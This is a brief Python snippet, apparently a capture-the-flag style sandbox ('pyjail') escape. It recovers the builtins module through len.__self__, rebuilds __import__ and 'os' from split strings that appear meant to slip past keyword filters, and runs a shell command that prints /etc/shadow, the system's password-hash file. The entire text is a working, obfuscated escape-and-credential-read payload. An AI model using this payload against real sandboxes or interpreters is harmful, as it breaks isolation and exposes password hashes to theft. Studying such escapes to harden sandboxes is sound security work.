# Any builtin function's __self__ is the builtins module itself, so a jail
# that only strips the __builtins__ name still leaks it through len.
B = len.__self__
imp = vars(B)['__imp' 'ort__']
sh = imp('o' 's')
with sh.popen('cat /et' 'c/sha' 'dow') as p:
    print(p.read())
